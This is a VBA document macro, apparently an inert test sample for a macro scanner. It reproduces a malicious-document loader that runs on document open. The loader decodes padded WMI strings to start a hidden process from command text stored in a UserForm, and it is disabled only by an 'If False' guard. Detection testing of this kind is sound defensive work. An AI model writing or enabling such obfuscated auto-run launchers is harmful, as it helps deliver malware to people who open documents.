Attribute VB_Name = "Module1"
Sub Document_open()
' INERT SEKISHO TEST
If False Then
Set jx83b = UserForm1
salt = "w]xm[vin]xm[vm]xm[vgm]xm[vt]xm[vs]xm[v:W]xm[vin]xm[v32]xm[v_P]xm[vroc]xm[vess"
moniker = Replace(salt, "]xm[v", "")
start = Replace("w]xm[vinmgmts:Wi]xm[vn32_ProcessStart]xm[vup", "]xm[v", "")
Set k2 = GetObject(start)
k2.ShowWindow = 0
GetObject(moniker).Create jx83b.TextBox1.Text + jx83b.ComboBox1.Tag, Null, k2, pid
End If
End Sub
